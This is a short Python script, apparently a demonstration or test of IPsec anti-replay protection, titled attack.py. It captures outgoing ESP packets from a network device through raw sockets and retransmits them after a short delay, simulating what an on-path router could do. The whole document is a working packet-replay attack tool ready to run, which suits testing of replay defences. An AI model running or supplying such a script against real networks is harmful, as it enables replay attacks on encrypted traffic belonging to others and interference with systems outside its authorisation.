"""Wait for ESP packets on a device, note them, and send them once more. What a router on the way can do.

    attack.py DEVICE COUNT
"""

import socket
import sys
import time

ETH_P_IP = 0x0800
ESP = 50

device, count = sys.argv[1], int(sys.argv[2])
ears = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))  # 3: all protocols, also what leaves
ears.bind((device, 0))
mouth = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
mouth.bind((device, 0))

seen = []
while len(seen) < count:
    frame, (_, protocol, kind, *_) = ears.recvfrom(65535)
    if protocol == ETH_P_IP and frame[14 + 9] == ESP and kind == socket.PACKET_OUTGOING:
        seen.append(frame)
time.sleep(0.5)
for frame in seen:
    mouth.send(frame)
print(f"{count} packets sent again")
